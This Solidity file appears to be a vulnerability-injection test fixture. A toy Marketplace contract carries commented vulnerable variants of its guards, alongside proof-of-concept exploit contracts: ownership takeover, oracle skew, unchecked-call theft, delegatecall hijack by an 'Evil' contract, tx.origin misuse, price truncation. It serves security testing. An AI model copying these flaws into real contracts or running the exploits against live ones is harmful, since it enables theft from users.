// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

contract Marketplace {
    IERC20 public cash;
    address public steward;
    Feed public dollar;
    Pair public desk;
    uint256 public royalty;
    mapping(uint256 => address) public holder;
    mapping(uint256 => uint128) public askingPrice;
    mapping(address => uint256) public proceeds;

    function setUp(address steward_, IERC20 cash_, Feed dollar_, Pair desk_) external {
        //[
        require(steward == address(0), "is set up");
        //| initialiser Oust
        //]
        steward = steward_;
        cash = cash_;
        dollar = dollar_;
        desk = desk_;
    }

    function register(uint256 item) external {
        //[
        require(holder[item] == address(0), "has a holder");
        //| guard Snatch
        //]
        holder[item] = msg.sender;
    }

    function offer(uint256 item, uint256 ask) external {
        //[
        require(holder[item] == msg.sender, "not your item");
        //| access Devalue
        //]
        //[
        require(ask > 0 && ask < 1 << 128, "bad price");
        //| cast Bargain
        //: require(ask > 0, "bad price");
        //]
        askingPrice[item] = uint128(ask);
    }

    function purchase(uint256 item, uint256 highestPrice) external {
        uint256 price = askingPrice[item];
        address from = holder[item];
        require(from != address(0), "no such item");
        //[
        require(price <= highestPrice, "price was raised");
        //| front-running Raise
        //]
        holder[item] = msg.sender;
        proceeds[from] += price;
        //[
        require(cash.transferFrom(msg.sender, address(this), price), "not paid");
        //| unchecked-call Shoplift
        //: cash.transferFrom(msg.sender, address(this), price);
        //]
    }

    function inEther(uint256 dollars) public view returns (uint256) {
        //[
        (uint256 perEther, uint256 at) = dollar.latest();
        require(perEther != 0 && at >= block.timestamp - 1 hours, "no quote");
        return dollars * 1e18 / perEther;
        //| oracle Skewed
        //: return dollars * 1e18 / desk.spot();
        //]
    }

    function buyWithEther(uint256 item) external payable {
        //[
        uint256 price = inEther(askingPrice[item]) + 1;
        //| rounding Giveaway
        //: uint256 price = inEther(askingPrice[item]);
        //]
        require(msg.value >= price && holder[item] != address(0), "not enough");
        address payable from = payable(holder[item]);
        holder[item] = msg.sender;
        from.transfer(msg.value);
    }

    function cashOut() external {
        uint256 sum = proceeds[msg.sender];
        proceeds[msg.sender] = 0;
        //[
        require(cash.transfer(msg.sender, sum), "cash out failed");
        //| unchecked-call Bounced
        //: cash.transfer(msg.sender, sum);
        //]
    }

    function plug(address code, bytes calldata input) external {
        //[
        require(msg.sender == steward, "steward only");
        //| delegatecall Plugged
        //]
        (bool worked, ) = code.delegatecall(input);
        require(worked, "plug failed");
    }

    function setRoyalty(uint256 next) external {
        //[
        require(msg.sender == steward, "steward only");
        //| tx.origin OriginRoyalty
        //: require(tx.origin == steward, "steward only");
        //]
        royalty = next;
    }
}

//! scene
contract Scene {
    Coin coin = new Coin();
    Feed feed = new Feed();
    Pair pair = new Pair(1e6, 2000e6);
    Actor ann = new Actor();
    Marketplace target = new Marketplace();

    constructor() {
        target.setUp(address(this), IERC20(address(coin)), feed, pair);
        feed.set(2000e18, block.timestamp);
        coin.mint(address(this), 1000);
    }

    receive() external payable {}

    function annOffers(uint256 ask) internal returns (bool) {
        bool ok = ann.act(address(target), abi.encodeCall(Marketplace.register, (1)));
        return ann.act(address(target), abi.encodeCall(Marketplace.offer, (1, ask))) && ok;
    }
}

contract Evil {
    IERC20 public cash;
    address public steward;

    function take() external {
        steward = msg.sender;
    }
}

contract Use is Scene {
    function run() external payable returns (bool) {
        bool ok = annOffers(600);
        target.purchase(1, 600);
        ok = ok && ann.act(address(target), abi.encodeCall(Marketplace.cashOut, ()));
        target.offer(1, 2000e18);
        ok = ok && ann.act{value: 1 ether + 1}(address(target), abi.encodeCall(Marketplace.buyWithEther, (1)));
        target.setRoyalty(5);
        target.plug(address(new Evil()), abi.encodeCall(Evil.take, ()));
        return ok && coin.balanceOf(address(ann)) == 600 && target.holder(1) == address(ann) && target.royalty() == 5;
    }
}

contract Oust is Scene {
    function run() external payable returns (bool) {
        return ann.act(address(target), abi.encodeCall(Marketplace.setUp, (address(ann), IERC20(address(0xb01)), feed, pair)));
    }
}

contract Snatch is Scene {
    function run() external payable returns (bool) {
        annOffers(600);
        target.register(1);
        return target.holder(1) == address(this);
    }
}

contract Devalue is Scene {
    function run() external payable returns (bool) {
        annOffers(600);
        target.offer(1, 1);
        target.purchase(1, 1);
        return target.holder(1) == address(this);
    }
}

contract Bargain is Scene {
    function run() external payable returns (bool) {
        bool ok = annOffers(1 << 128);
        target.purchase(1, 0);
        return ok && target.holder(1) == address(this);
    }
}

contract Raise is Scene {
    function run() external payable returns (bool) {
        target.register(1);
        target.offer(1, 900);
        coin.mint(address(ann), 1000);
        ann.act(address(target), abi.encodeCall(Marketplace.purchase, (1, 300)));
        return target.proceeds(address(this)) == 900;
    }
}

contract Shoplift is Scene {
    function run() external payable returns (bool) {
        annOffers(5000);
        target.purchase(1, 5000);
        return target.holder(1) == address(this);
    }
}

contract Skewed is Scene {
    function run() external payable returns (bool) {
        annOffers(2000e18);
        pair.trade(1, 2000e6);
        target.buyWithEther{value: 0.01 ether}(1);
        return target.holder(1) == address(this);
    }
}

contract Giveaway is Scene {
    function run() external payable returns (bool) {
        annOffers(1999);
        target.buyWithEther(1);
        return target.holder(1) == address(this);
    }
}

contract Bounced {
    function run() external payable returns (bool) {
        Coin coin = new Coin();
        Marketplace target = new Marketplace();
        target.setUp(address(this), IERC20(address(new Promise())), new Feed(), new Pair(1, 1));
        target.register(1);
        target.offer(1, 50);
        Actor ann = new Actor();
        ann.act(address(target), abi.encodeCall(Marketplace.purchase, (1, 50)));
        target.cashOut();
        return target.proceeds(address(this)) == 0 && coin.balanceOf(address(this)) == 0 && target.holder(1) == address(ann);
    }
}

contract Promise {
    function transferFrom(address, address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }
}

contract Plugged is Scene {
    function run() external payable returns (bool) {
        ann.act(address(target), abi.encodeCall(Marketplace.plug, (address(new Evil()), abi.encodeCall(Evil.take, ()))));
        return target.steward() == address(ann);
    }
}

contract OriginRoyalty is Scene {
    function run() external payable returns (bool) {
        Marketplace other = new Marketplace();
        other.setUp(tx.origin, IERC20(address(coin)), feed, pair);
        other.setRoyalty(77);
        return other.royalty() == 77;
    }
}
